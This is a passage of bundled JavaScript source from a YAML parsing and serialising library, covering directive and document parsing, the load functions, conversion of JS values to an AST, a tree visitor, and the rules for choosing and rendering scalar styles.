				}
				if (!hasContent && (allowBlockScalars && readBlockScalar(state, flowIndent, props) || readSingleQuotedScalar(state, flowIndent, props) || readDoubleQuotedScalar(state, flowIndent, props) || readAlias(state, props) || readPlainScalar(state, flowIndent, nodeContext, props))) hasContent = true;
			}
		} else if (indentStatus === 0) hasContent = allowBlockCollections && readBlockSequence(state, blockIndent, props);
	}
	allowBlockScalars = allowBlockScalars && !hasContent;
	if (!hasContent && (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1 || allowBlockScalars)) {
		addScalarEvent(state, NO_RANGE$1, NO_RANGE$1, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.PLAIN);
		hasContent = true;
	}
	state.depth--;
	return hasContent || props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1;
}
function readDirective(state) {
	if (state.lineIndent > 0 || state.input.charCodeAt(state.position) !== 37) return false;
	state.position++;
	const nameStart = state.position;
	while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position))) state.position++;
	const name = state.input.slice(nameStart, state.position);
	const args = [];
	if (name.length === 0) throwError(state, "directive name must not be less than one character in length");
	while (state.input.charCodeAt(state.position) !== 0 && !isEol(state.input.charCodeAt(state.position))) {
		while (isWhiteSpace(state.input.charCodeAt(state.position))) state.position++;
		if (state.input.charCodeAt(state.position) === 35 || isEol(state.input.charCodeAt(state.position)) || state.input.charCodeAt(state.position) === 0) break;
		const start = state.position;
		while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position))) state.position++;
		args.push(state.input.slice(start, state.position));
	}
	if (isEol(state.input.charCodeAt(state.position))) consumeLineBreak(state);
	if (name === "YAML") {
		if (state.directives.some((directive) => directive.kind === "yaml")) throwError(state, "duplication of %YAML directive");
		if (args.length !== 1) throwError(state, "YAML directive accepts exactly one argument");
		const match = /^([0-9]+)\.([0-9]+)$/.exec(args[0]);
		if (match === null) throwError(state, "ill-formed argument of the YAML directive");
		if (parseInt(match[1], 10) !== 1) throwError(state, "unacceptable YAML version of the document");
		state.directives.push({
			kind: "yaml",
			version: args[0]
		});
	} else if (name === "TAG") {
		if (args.length !== 2) throwError(state, "TAG directive accepts exactly two arguments");
		const [handle, prefix] = args;
		if (!PATTERN_TAG_HANDLE.test(handle)) throwError(state, "ill-formed tag handle (first argument) of the TAG directive");
		if (HAS_OWN.call(state.tagHandlers, handle)) throwError(state, `there is a previously declared suffix for "${handle}" tag handle`);
		if (!PATTERN_TAG_PREFIX.test(prefix)) throwError(state, "ill-formed tag prefix (second argument) of the TAG directive");
		state.tagHandlers[handle] = prefix;
		state.directives.push({
			kind: "tag",
			handle,
			prefix
		});
	}
	return true;
}
function readDocument(state) {
	state.directives = [];
	state.tagHandlers = Object.create(null);
	let hasDirectives = false;
	skipSeparationSpace(state, true);
	while (readDirective(state)) {
		hasDirectives = true;
		skipSeparationSpace(state, true);
	}
	let explicitStart = false;
	let explicitEnd = false;
	let allowCompact = true;
	if (state.lineIndent === 0 && state.input.charCodeAt(state.position) === 45 && state.input.charCodeAt(state.position + 1) === 45 && state.input.charCodeAt(state.position + 2) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 3))) {
		explicitStart = true;
		const markerLine = state.line;
		state.position += 3;
		skipSeparationSpace(state, true);
		allowCompact = state.line > markerLine;
	} else if (hasDirectives) throwError(state, "directives end mark is expected");
	const documentEventIndex = state.events.length;
	if (!explicitStart && state.position === state.lineStart && state.input.charCodeAt(state.position) === 46 && testDocumentSeparator(state)) {
		state.position += 3;
		skipSeparationSpace(state, true);
		return;
	}
	addDocumentEvent(state, explicitStart, false);
	if (!parseNode(state, state.lineIndent - 1, CONTEXT_BLOCK_OUT, false, allowCompact, allowCompact)) addEmptyScalarEvent(state);
	skipSeparationSpace(state, true);
	if (state.position === state.lineStart && testDocumentSeparator(state)) {
		explicitEnd = state.input.charCodeAt(state.position) === 46;
		if (explicitEnd) {
			const markerLine = state.line;
			state.position += 3;
			skipSeparationSpace(state, true);
			if (state.line === markerLine && state.position < state.length) throwError(state, "end of the stream or a document separator is expected");
		}
	}
	const documentEvent = state.events[documentEventIndex];
	if (documentEvent?.type === EVENT_ID.DOCUMENT) documentEvent.explicitEnd = explicitEnd;
	addPopEvent(state);
	if (!explicitEnd && state.position < state.length && !testDocumentBoundary(state)) throwError(state, "end of the stream or a document separator is expected");
}
/**
* Parses YAML into a flat event stream referencing source text by offsets.
*
* @category Events
*/
function parseEvents(input, options) {
	const length = input.length;
	const state = {
		...DEFAULT_PARSER_OPTIONS,
		...options,
		input: `${input}\0`,
		length,
		position: 0,
		line: 0,
		lineStart: 0,
		lineIndent: 0,
		firstTabInLine: -1,
		depth: 0,
		directives: [],
		tagHandlers: Object.create(null),
		events: []
	};
	const nullpos = input.indexOf("\0");
	if (nullpos !== -1) YAMLException.throwAt(input, nullpos, "null byte is not allowed in input", state.filename);
	while (state.position < state.length) {
		skipByteOrderMark(state);
		skipSeparationSpace(state, true);
		if (state.position >= state.length) break;
		const documentStart = state.position;
		readDocument(state);
		if (state.position === documentStart)
 /* c8 ignore next */
		throwError(state, "can not read a document");
	}
	return state.events;
}
//#endregion
//#region src/load.ts
var DEFAULT_LOAD_OPTIONS = {
	...DEFAULT_PARSER_OPTIONS,
	...DEFAULT_CONSTRUCTOR_OPTIONS
};
function loadDocuments(input, options = {}) {
	const opts = {
		...DEFAULT_LOAD_OPTIONS,
		...options
	};
	const source = String(input);
	const PARSER_OPT_KEYS = Object.keys(DEFAULT_PARSER_OPTIONS);
	const CONSTRUCTOR_OPT_KEYS = Object.keys(DEFAULT_CONSTRUCTOR_OPTIONS);
	return constructFromEvents(parseEvents(source, pick(opts, PARSER_OPT_KEYS)), {
		...pick(opts, CONSTRUCTOR_OPT_KEYS),
		source
	});
}
function loadAll(input, iteratorOrOptions, options) {
	let iterator = null;
	if (typeof iteratorOrOptions === "function") iterator = iteratorOrOptions;
	else if (iteratorOrOptions !== null && typeof iteratorOrOptions === "object") options = iteratorOrOptions;
	const documents = loadDocuments(input, options);
	if (iterator === null) return documents;
	for (const document of documents) iterator(document);
}
/**
* Parses `string` as a single YAML document. Throws {@link YAMLException} on
* error. This function does not understand multi-document or empty sources; it
* throws an exception on those.
*
* > [!NOTE]
* > 1. When processing untrusted input, see the
* >    [security considerations](../docs/safety.md).
* > 2. All exceptions MUST be caught, not just {@link YAMLException}.
* > 3. The default {@link CORE_SCHEMA} comes without the `!!merge` tag. You can
* >    easily enable it if needed.
* > 4. The default {@link mapTag} is `{}`-object based, with known limitations
* >    (see description). For full compatibility use {@link realMapTag}
* >    instead (it uses native JS `Map`).
*
* @example
* Enable {@link mergeTag} and {@link realMapTag}:
*
* ```javascript
* import { load, CORE_SCHEMA, mergeTag, realMapTag } from 'js-yaml'
*
* try {
*   load(data, { schema: CORE_SCHEMA.withTags(mergeTag, realMapTag) })
* } catch (e) {
*   console.error(e)
* }
* ```
*
* @category Main
*/
function load(input, options) {
	const documents = loadDocuments(input, options);
	if (documents.length === 0) throw new YAMLException("expected a document, but the input is empty");
	if (documents.length === 1) return documents[0];
	throw new YAMLException("expected a single document in the stream, but found more");
}
//#endregion
//#region src/ast/from_js.ts
var INVALID = Symbol("INVALID");
function buildRepresentTypes(schema) {
	const defaultTags = new Set([
		schema.defaultScalarTag,
		schema.defaultSequenceTag,
		schema.defaultMappingTag
	].filter((t) => t !== void 0));
	const implicitScalars = schema.implicitScalarTags;
	const explicitTags = schema.tags.filter((t) => !(t.nodeKind === "scalar" && t.implicit) && !defaultTags.has(t));
	const defaultTagsLast = schema.tags.filter((t) => defaultTags.has(t));
	return [
		...implicitScalars.map((tag) => ({
			tag,
			implicitTag: true
		})),
		...explicitTags.map((tag) => ({
			tag,
			implicitTag: false
		})),
		...defaultTagsLast.map((tag) => ({
			tag,
			implicitTag: true
		}))
	];
}
function matchTag(state, object) {
	for (let index = 0, length = state.representTypes.length; index < length; index += 1) {
		const { tag, implicitTag } = state.representTypes[index];
		if (tag.identify(object)) {
			let tagName;
			if (tag.matchByTagPrefix) tagName = tag.representTagName(object);
			else tagName = tag.tagName;
			return {
				tag,
				tagName,
				implicitTag
			};
		}
	}
	return null;
}
function build(state, object) {
	if (!state.noRefs && object !== null && typeof object === "object") {
		const existing = state.refs.get(object);
		if (existing) {
			if (existing.anchor === void 0) existing.anchor = `ref_${state.refCounter++}`;
			return {
				kind: "alias",
				anchor: existing.anchor
			};
		}
	}
	const matched = matchTag(state, object);
	if (!matched) {
		if (object === void 0) return INVALID;
		if (state.skipInvalid) return INVALID;
		throw new YAMLException(`unacceptable kind of an object to dump ${Object.prototype.toString.call(object)}`);
	}
	const { tag, tagName, implicitTag } = matched;
	const nodeTagName = implicitTag ? tagName : tagNameShort(tagName);
	if (tag.nodeKind === "scalar") return {
		kind: "scalar",
		tag: nodeTagName,
		tagged: !implicitTag,
		style: SCALAR_STYLE.PLAIN,
		value: tag.represent(object)
	};
	if (tag.nodeKind === "sequence") {
		const container = tag.represent(object);
		const node = {
			kind: "sequence",
			tag: nodeTagName,
			tagged: !implicitTag,
			style: COLLECTION_STYLE.BLOCK,
			items: []
		};
		if (!state.noRefs) state.refs.set(object, node);
		for (let index = 0, length = container.length; index < length; index += 1) {
			let item = build(state, container[index]);
			if (item === INVALID && container[index] === void 0) item = build(state, null);
			if (item === INVALID) continue;
			node.items.push(item);
		}
		return node;
	}
	const map = tag.represent(object);
	const node = {
		kind: "mapping",
		tag: nodeTagName,
		tagged: !implicitTag,
		style: COLLECTION_STYLE.BLOCK,
		items: []
	};
	if (!state.noRefs) state.refs.set(object, node);
	for (const [objectKey, objectValue] of map) {
		const key = build(state, objectKey);
		if (key === INVALID) continue;
		const value = build(state, objectValue);
		if (value === INVALID) continue;
		node.items.push({
			key,
			value
		});
	}
	return node;
}
/**
* Convert JS object to AST. A JS value is one YAML document. An unrepresentable
* root becomes an empty document, which the presenter renders as an empty
* string.
*
* @category AST
*/
function jsToAst(input, schema, options = {}) {
	const root = build({
		representTypes: buildRepresentTypes(schema),
		noRefs: options.noRefs ?? false,
		skipInvalid: options.skipInvalid ?? false,
		refs: /* @__PURE__ */ new Map(),
		refCounter: 0
	}, input);
	return [{
		contents: root === INVALID ? null : root,
		directives: []
	}];
}
//#endregion
//#region src/ast/visit.ts
/**
* Return from a visitor to stop the whole traversal.
*
* @category AST
*/
var VISIT_BREAK = Symbol("visit:break");
/**
* Return from a visitor to skip the current node's children.
*
* @category AST
*/
var VISIT_SKIP = Symbol("visit:skip");
function visitNode(node, visitor, ctx) {
	const control = visitor(node, ctx);
	if (control === VISIT_BREAK) return true;
	if (control === VISIT_SKIP) return false;
	const depth = ctx.depth + 1;
	switch (node.kind) {
		case "sequence":
			for (const item of node.items) if (visitNode(item, visitor, {
				depth,
				parent: node,
				isKey: false
			})) return true;
			break;
		case "mapping": for (const { key, value } of node.items) {
			if (visitNode(key, visitor, {
				depth,
				parent: node,
				isKey: true
			})) return true;
			if (visitNode(value, visitor, {
				depth,
				parent: node,
				isKey: false
			})) return true;
		}
	}
	return false;
}
/**
* Walk every node in the documents, calling {@link Visitor} once per
* node (pre-order).
*
* @category AST
*/
function visit(documents, visitor) {
	for (const doc of documents) if (doc.contents && visitNode(doc.contents, visitor, {
		depth: 0,
		parent: null,
		isKey: false
	})) return;
}
//#endregion
//#region src/ast/styler_defaults.ts
function hasBit(mask, bit) {
	return (mask & 1 << bit) !== 0;
}
/**
* Default scalar styling rules in application order.
* See [Scalar styling](../../docs/scalar_styling.md) for usage details.
*
* @category AST
*/
var DEFAULT_SCALAR_STYLE_RULES = {
	applyQuoteFlowKeysOption,
	doubleQuoteForInvisibles,
	doubleQuoteWhitespaceOnly,
	applyForceQuotesOption,
	tryLongOrMultilineAsBlock,
	quoteInvalidPlain,
	fallbackToDoubleQuoted
};
function _preferredQuotedStyle(layout) {
	if (layout.presenterOptions.quoteStyle === "single" && hasBit(layout.allowedStylesMask, SCALAR_STYLE.SINGLE_QUOTED)) return SCALAR_STYLE.SINGLE_QUOTED;
	return SCALAR_STYLE.DOUBLE_QUOTED;
}
function applyQuoteFlowKeysOption(layout) {
	if (!layout.presenterOptions.quoteFlowKeys) return;
	if (!layout.isKey || !layout.flowOnly || layout.style !== SCALAR_STYLE.PLAIN) return;
	layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
function doubleQuoteForInvisibles(layout) {
	if (layout.style === SCALAR_STYLE.PLAIN && /[\t\x7F-\xA0\u2028\u2029\uFEFF\uFFFE\uFFFF]/.test(layout.node.value)) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
function doubleQuoteWhitespaceOnly(layout) {
	if (layout.style === SCALAR_STYLE.PLAIN && /^\s+$/.test(layout.node.value)) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
function applyForceQuotesOption(layout) {
	if (!layout.presenterOptions.forceQuotes) return;
	if (layout.isKey || layout.style !== SCALAR_STYLE.PLAIN) return;
	if (layout.node.tag !== layout.presenterOptions.schema.defaultScalarTag.tagName) return;
	layout.style = layout.node.value.includes("\n") ? SCALAR_STYLE.DOUBLE_QUOTED : _preferredQuotedStyle(layout);
}
function tryLongOrMultilineAsBlock(layout) {
	if (layout.style !== SCALAR_STYLE.PLAIN || layout.isKey) return;
	const value = layout.node.value;
	const multiline = value.indexOf("\n") !== -1;
	if (!hasBit(layout.allowedStylesMask, SCALAR_STYLE.LITERAL_BLOCK)) {
		if (multiline) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
		return;
	}
	const w = layout.presenterOptions.lineWidth;
	if (w === -1) {
		if (multiline) layout.style = SCALAR_STYLE.LITERAL_BLOCK;
		return;
	}
	const availableWidth = Math.max(Math.min(w, 40), w - layout.shiftOfContent);
	let position = 0;
	let shouldFold = false;
	while (position <= value.length) {
		let lineEnd = value.length;
		const nextLineBreak = value.indexOf("\n", position);
		if (nextLineBreak !== -1) lineEnd = nextLineBreak;
		const line = value.slice(position, lineEnd);
		if (line.length > availableWidth && line[0] !== " " && / [^ \t]/.test(line)) shouldFold = true;
		if (nextLineBreak === -1) break;
		position = nextLineBreak + 1;
	}
	if (shouldFold) layout.style = SCALAR_STYLE.FOLDED_BLOCK;
	else if (multiline) layout.style = SCALAR_STYLE.LITERAL_BLOCK;
}
function quoteInvalidPlain(layout) {
	if (layout.style === SCALAR_STYLE.PLAIN && !hasBit(layout.allowedStylesMask, SCALAR_STYLE.PLAIN)) layout.style = _preferredQuotedStyle(layout);
}
function fallbackToDoubleQuoted(layout) {
	if (!hasBit(layout.allowedStylesMask, layout.style)) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
//#endregion
//#region src/ast/scalar_styler.ts
function setBit(mask, bit) {
	return mask | 1 << bit;
}
var SRC_C_PRINTABLE = "[\\x09\\x0A\\x0D\\x20-\\x7E\\x85\\xA0-\\uD7FF\\uE000-\\uFFFD\\u{10000}-\\u{10FFFF}]";
var SRC_B_CHAR = "[\\n\\r]";
var SRC_C_BYTE_ORDER_MARK = "\\uFEFF";
var SRC_S_WHITE = "[ \\t]";
var SRC_NB_CHAR = `(?:(?!(?:${SRC_B_CHAR}|${SRC_C_BYTE_ORDER_MARK}))${SRC_C_PRINTABLE})`;
var SRC_NS_CHAR = `(?:(?!${SRC_S_WHITE})${SRC_NB_CHAR})`;
var SRC_NB_JSON = "[\\x09\\x20-\\uD7FF\\uE000-\\uFFFF\\u{10000}-\\u{10FFFF}]";
var SRC_C_INDICATOR = "[-?:,\\[\\]{}#&*!|>'\"%@`]";
var SRC_C_FLOW_INDICATOR = "[,\\[\\]{}]";
var SRC_NS_PLAIN_SAFE_FLOW_OUT = SRC_NS_CHAR;
var SRC_NS_PLAIN_SAFE_FLOW_IN = `(?:(?!${SRC_C_FLOW_INDICATOR})${SRC_NS_CHAR})`;
var SRC_NS_PLAIN_FIRST_FLOW_OUT = `(?:(?:(?!${SRC_C_INDICATOR})${SRC_NS_CHAR})|[?:-](?=${SRC_NS_PLAIN_SAFE_FLOW_OUT}))`;
var SRC_NS_PLAIN_FIRST_FLOW_IN = `(?:(?:(?!${SRC_C_INDICATOR})${SRC_NS_CHAR})|[?:-](?=${SRC_NS_PLAIN_SAFE_FLOW_IN}))`;
var SRC_NS_PLAIN_CHAR_FLOW_OUT = `(?:(?:(?![:#])${SRC_NS_PLAIN_SAFE_FLOW_OUT})|:(?=${SRC_NS_PLAIN_SAFE_FLOW_OUT}))#*`;
var SRC_NS_PLAIN_CHAR_FLOW_IN = `(?:(?:(?![:#])${SRC_NS_PLAIN_SAFE_FLOW_IN})|:(?=${SRC_NS_PLAIN_SAFE_FLOW_IN}))#*`;
var SRC_NB_NS_PLAIN_IN_LINE_FLOW_OUT = `(?:${SRC_S_WHITE}*${SRC_NS_PLAIN_CHAR_FLOW_OUT})*`;
var SRC_NB_NS_PLAIN_IN_LINE_FLOW_IN = `(?:${SRC_S_WHITE}*${SRC_NS_PLAIN_CHAR_FLOW_IN})*`;
var SRC_NS_PLAIN_ONE_LINE_FLOW_OUT = `${SRC_NS_PLAIN_FIRST_FLOW_OUT}#*${SRC_NB_NS_PLAIN_IN_LINE_FLOW_OUT}`;
var SRC_NS_PLAIN_ONE_LINE_FLOW_IN = `${SRC_NS_PLAIN_FIRST_FLOW_IN}#*${SRC_NB_NS_PLAIN_IN_LINE_FLOW_IN}`;
var SRC_NS_PLAIN_ONE_LINE_BLOCK_KEY = SRC_NS_PLAIN_ONE_LINE_FLOW_OUT;
var SRC_NS_PLAIN_ONE_LINE_FLOW_KEY = SRC_NS_PLAIN_ONE_LINE_FLOW_IN;
var SRC_S_NS_PLAIN_NEXT_LINE_FLOW_OUT = `\\n+${SRC_NS_PLAIN_CHAR_FLOW_OUT}${SRC_NB_NS_PLAIN_IN_LINE_FLOW_OUT}`;
var SRC_S_NS_PLAIN_NEXT_LINE_FLOW_IN = `\\n+${SRC_NS_PLAIN_CHAR_FLOW_IN}${SRC_NB_NS_PLAIN_IN_LINE_FLOW_IN}`;
var SRC_NS_PLAIN_MULTI_LINE_FLOW_OUT = `${SRC_NS_PLAIN_ONE_LINE_FLOW_OUT}(?:${SRC_S_NS_PLAIN_NEXT_LINE_FLOW_OUT})*`;
var SRC_NS_PLAIN_MULTI_LINE_FLOW_IN = `${SRC_NS_PLAIN_ONE_LINE_FLOW_IN}(?:${SRC_S_NS_PLAIN_NEXT_LINE_FLOW_IN})*`;
var NS_PLAIN_FLOW_OUT = new RegExp(`^(?:${SRC_NS_PLAIN_MULTI_LINE_FLOW_OUT})$`, "u");
var NS_PLAIN_FLOW_IN = new RegExp(`^(?:${SRC_NS_PLAIN_MULTI_LINE_FLOW_IN})$`, "u");
var NS_PLAIN_BLOCK_KEY = new RegExp(`^(?:${SRC_NS_PLAIN_ONE_LINE_BLOCK_KEY})$`, "u");
var NS_PLAIN_FLOW_KEY = new RegExp(`^(?:${SRC_NS_PLAIN_ONE_LINE_FLOW_KEY})$`, "u");
var NB_SINGLE_ONE_LINE = new RegExp(`^(?:${SRC_NB_JSON})*$`, "u");
var NB_SINGLE_MULTI_LINE = new RegExp(`^(?:${SRC_NB_JSON}|\\n)*$`, "u");
var BLOCK_SCALAR_CONTENT = new RegExp(`^(?:${SRC_NB_CHAR}|\\n)*$`, "u");
var C_FORBIDDEN_FIRST_LINE = /^(?:---|\.\.\.)(?=$|[ \t\n\r])/;
var C_FORBIDDEN_CONTENT = /^(?:---|\.\.\.)(?=$|[ \t\n\r])/m;
function canUsePlain(layout) {
	const str = layout.node.value;
	if (str !== "") {
		if (!(layout.isKey ? layout.flowOnly ? NS_PLAIN_FLOW_KEY : NS_PLAIN_BLOCK_KEY : layout.flowOnly ? NS_PLAIN_FLOW_IN : NS_PLAIN_FLOW_OUT).test(str)) return false;
		if (layout.shiftOfFirstLine === 0 && C_FORBIDDEN_FIRST_LINE.test(str)) return false;
		if (layout.shiftOfContent === 0) {
			const firstLineBreak = str.indexOf("\n");
			if (firstLineBreak !== -1) {
				const content = str.slice(firstLineBreak + 1);
				if (C_FORBIDDEN_CONTENT.test(content)) return false;
			}
		}
	}
	const resolvedTag = layout.presenterOptions.schema.resolveImplicitScalarTag(str).tag.tagName;
	if (!layout.node.tagged && resolvedTag !== layout.node.tag) return false;
	if (!layout.node.tagged && str === "=" && resolvedTag === layout.presenterOptions.schema.defaultScalarTag.tagName) return false;
	return true;
}
function canUseSingleQuoted(layout) {
	const str = layout.node.value;
	if (!(layout.isKey ? NB_SINGLE_ONE_LINE : NB_SINGLE_MULTI_LINE).test(str)) return false;
	if (/[ \t]\n|\n[ \t]/.test(str)) return false;
	if (!layout.isKey && layout.shiftOfContent === 0) {
		const firstLineBreak = str.indexOf("\n");
		if (firstLineBreak !== -1 && C_FORBIDDEN_CONTENT.test(str.slice(firstLineBreak + 1))) return false;
	}
	return true;
}
function canUseBlock(layout) {
	if (layout.flowOnly || !BLOCK_SCALAR_CONTENT.test(layout.node.value)) return false;
	const contentIndent = layout.shiftOfContent - layout.shiftOfParent;
	if (contentIndent < 1) return false;
	if (contentIndent > 9 && /^\n* /.test(layout.node.value)) return false;
	if (layout.shiftOfContent === 0 && C_FORBIDDEN_CONTENT.test(layout.node.value)) return false;
	return true;
}
function detectAllowedStyles(layout) {
	let mask = setBit(0, SCALAR_STYLE.DOUBLE_QUOTED);
	if (canUsePlain(layout)) mask = setBit(mask, SCALAR_STYLE.PLAIN);
	if (canUseSingleQuoted(layout)) mask = setBit(mask, SCALAR_STYLE.SINGLE_QUOTED);
	if (canUseBlock(layout)) mask = setBit(setBit(mask, SCALAR_STYLE.LITERAL_BLOCK), SCALAR_STYLE.FOLDED_BLOCK);
	layout.allowedStylesMask = mask;
}
function renderScalar(layout) {
	switch (layout.style) {
		case SCALAR_STYLE.PLAIN: return renderPlain(layout);
		case SCALAR_STYLE.SINGLE_QUOTED: return renderSingleQuoted(layout);
		case SCALAR_STYLE.LITERAL_BLOCK: return renderLiteralBlock(layout);
		case SCALAR_STYLE.FOLDED_BLOCK: return renderFoldedBlock(layout);
		case SCALAR_STYLE.DOUBLE_QUOTED: return renderDoubleQuoted(layout);
	}
}
function renderPlain(layout) {
	return encodeFlowBreaks(layout.node.value, layout.shiftOfContent);
}
function renderSingleQuoted(layout) {
	return `'${encodeFlowBreaks(layout.node.value, layout.shiftOfContent).replace(/'/g, "''")}'`;
}
function renderLiteralBlock(layout) {
	const value = layout.node.value;
	return "|" + blockHeader(value, layout.shiftOfParent, layout.shiftOfContent) + dropEndingNewline(indentString(value, layout.shiftOfContent));
}
function renderFoldedBlock(layout) {
	const value = layout.node.value;
	const w = layout.presenterOptions.lineWidth;
	let availableWidth = Infinity;
	if (w !== -1) availableWidth = Math.max(Math.min(w, 40), w - layout.shiftOfContent);
	return ">" + blockHeader(value, layout.shiftOfParent, layout.shiftOfContent) + dropEndingNewline(indentString(foldBlockScalar(value, availableWidth), layout.shiftOfContent));
}
function renderDoubleQuoted(layout) {
	return `"${escapeString(layout.node.value)}"`;
}
function encodeFlowBreaks(string, shiftOfContent) {
	let nextLF = string.indexOf("\n");
	if (nextLF === -1) return string;
	const pad = " ".repeat(shiftOfContent);
	let result = string.slice(0, nextLF);
	const lineRe = /(\n+)([^\n]*)/g;
	lineRe.lastIndex = nextLF;
	let match;
	while (match = lineRe.exec(string)) {
		const breaks = match[1].length;
		const line = match[2];
		result += "\n".repeat(breaks + 1) + pad + line;
	}
	return result;
}
function indentString(string, spaces) {
	const indent = " ".repeat(spaces);
	let position = 0;
	let result = "";
	const length = string.length;
	while (position < length) {
		let line;
		const next = string.indexOf("\n", position);
		if (next === -1) {
			line = string.slice(position);
			position = length;
		} else {
			line = string.slice(position, next + 1);
			position = next + 1;
		}
		if (line.length && line !== "\n") result += indent;
		result += line;
	}
	return result;
}
function needIndentIndicator(string) {
	return /^\n* /.test(string);
}
function blockHeader(string, shiftOfParent, shiftOfContent) {
	const indentIndicator = needIndentIndicator(string) ? String(shiftOfContent - shiftOfParent) : "";
	const clip = string[string.length - 1] === "\n";
	return `${indentIndicator}${clip && (string[string.length - 2] === "\n" || string === "\n") ? "+" : clip ? "" : "-"}\n`;
}
function dropEndingNewline(string) {
	return string[string.length - 1] === "\n" ? string.slice(0, -1) : string;
}
function isMoreIndented(char) {
	return char === " " || char === "	";
}
function foldLine(line, width) {
	if (line === "" || isMoreIndented(line[0])) return line;
	const breakRe = / [^ \t]/g;
	let match;
	let start = 0;
	let end;
	let curr = 0;
	let next = 0;
	let result = "";
	while (match = breakRe.exec(line)) {
		next = match.index;
		if (next - start > width) {
			end = curr > start ? curr : next;
			result += `\n${line.slice(start, end)}`;
			start = end + 1;
		}
		curr = next;
	}
	result += "\n";
	if (line.length - start > width && curr > start) result += `${line.slice(start, curr)}\n${line.slice(curr + 1)}`;
	else result += line.slice(start);
	return result.slice(1);
}
function foldBlockScalar(string, width) {
	const lineRe = /(\n+)([^\n]*)/g;
	let nextLF = string.indexOf("\n");
	if (nextLF === -1) nextLF = string.length;
	lineRe.lastIndex = nextLF;
	let result = foldLine(string.slice(0, nextLF), width);
	let prevMoreIndented = string[0] === "\n" || isMoreIndented(string[0]);
	let moreIndented;
	let match;
	while (match = lineRe.exec(string)) {
		const prefix = match[1];
		const line = match[2];
		moreIndented = line !== "" && isMoreIndented(line[0]);
		result += prefix + (!prevMoreIndented && !moreIndented && line !== "" ? "\n" : "") + foldLine(line, width);
		prevMoreIndented = moreIndented;
	}
	return result;
}
var CHARACTERS_TO_ESCAPE = /["\\\x00-\x1F\x7F-\xA0\u2028\u2029\uD800-\uDFFF\uFEFF\uFFFE\uFFFF]/gu;
function escapeCharacter(character) {
	switch (character) {
		case "\0": return "\\0";
		case "\x07": return "\\a";
		case "\b": return "\\b";
		case "	": return "\\t";
		case "\n": return "\\n";
		case "\v": return "\\v";
		case "\f": return "\\f";
		case "\r": return "\\r";
		case "\x1B": return "\\e";
		case "\"": return "\\\"";
		case "\\": return "\\\\";
		case "": return "\\N";
		case "\xA0": return "\\_";
		case "\u2028": return "\\L";
		case "\u2029": return "\\P";
	}
	const code = character.charCodeAt(0);
	const hex = code.toString(16).toUpperCase();
	if (code <= 255) return `\\x${"0".repeat(2 - hex.length)}${hex}`;
	return `\\u${"0".repeat(4 - hex.length)}${hex}`;
}
function escapeString(string) {
	return string.replace(CHARACTERS_TO_ESCAPE, escapeCharacter);
}
//#endregion
//#region src/ast/presenter.ts
var CHAR_LINE_FEED = 10;
var DEFAULT_PRESENTER_OPTIONS = {
	indent: 2,
	seqNoIndent: false,
	seqInlineFirst: true,
	lineWidth: 80,
	flowBracketPadding: false,
	flowSkipCommaSpace: false,
	flowSkipColonSpace: false,
	quoteFlowKeys: false,
	quoteStyle: "single",
	forceQuotes: false,
	scalarStyleRules: Object.keys(DEFAULT_SCALAR_STYLE_RULES).map((name) => Reflect.get(DEFAULT_SCALAR_STYLE_RULES, name)),
	tagBeforeAnchor: false
};
function nodeTagShort(node) {
	return node.tagged ? node.tag : tagNameShort(node.tag);
}
function createPresenterState(options) {
	const opts = {
		...DEFAULT_PRESENTER_OPTIONS,
		...options
	};
	if (opts.flowSkipColonSpace) opts.quoteFlowKeys = true;
	return {
		...opts,
		defaultScalarTagName: opts.schema.defaultScalarTag.tagName,
		openEnded: false
	};
}
function generateNextLine(state, level) {
	return `\n${" ".repeat(state.indent * level)}`;
}
function scalarLayout(state, node, parent, level, isKey, flowOnly) {
	return {
		node,
		parent,
		level,
		isKey,
		flowOnly,
		shiftOfParent: level === 0 ? -1 : state.indent * (level - 1),
		shiftOfContent: state.indent * Math.max(1, level),
		shiftOfFirstLine: level === 0 ? 0 : state.indent * level,
		presenterOptions: state,
		allowedStylesMask: 0,
		style: node.style
	};
}
function writeFlowSequence(state, level, node) {
	let result = "";
	for (let index = 0, length = node.items.length; index < length; index += 1) {
		const item = writeNode(state, level, node.items[index], node, {}).text;
		if (index > 0) result += `,${!state.flowSkipCommaSpace ? " " : ""}`;
		result += item;
	}
	const pad = state.flowBracketPadding && node.items.length > 0 ? " " : "";
	return `[${pad}${result}${pad}]`;
}
function writeBlockSequence(state, level, node, compact) {
	let result = "";
	for (let index = 0, length = node.items.length; index < length; index += 1) {
		const item = writeNode(state, level + 1, node.items[index], node, {
			block: true,
			compact: state.seqInlineFirst,
			isblockseq: true
		}).text;
		if (!compact || result !== "") result += generateNextLine(state, level);
		if (item === "" || CHAR_LINE_FEED === item.charCodeAt(0)) result += "-";
		else result += "- ";
		result += item;
	}
	return result;
}
function writeFlowMapping(state, level, node) {
	let result = "";
	for (const { key, value } of node.items) {
		let pairBuffer = "";
		if (result !== "") pairBuffer += `,${!state.flowSkipCommaSpace ? " " : ""}`;
		const keyRender = writeNode(state, level, key, node, { iskey: true });
		const keyText = keyRender.text;
		const valueText = writeNode(state, level, value, node, {}).text;
		const sep = state.flowSkipColonSpace || valueText === "" ? "" : " ";
		const keyIsBareProps = key.kind === "scalar" && keyRender.noBody && (key.tagged || key.anchor !== void 0);
		const keyColonSep = key.kind === "alias" || keyIsBareProps ? " " : "";
		pairBuffer += `${keyText}${keyColonSep}:${sep}${valueText}`;
		result += pairBuffer;
	}
	const pad = state.flowBracketPadding && result !== "" ? " " : "";
	return `{${pad}${result}${pad}}`;
}
function writeBlockMapping(state, level, node, compact) {
	let result = "";
	for (let index = 0, length = node.items.length; index < length; index += 1) {
		let pairBuffer = "";
		if (!compact || result !== "") pairBuffer += generateNextLine(state, level);
		const { key, value } = node.items[index];
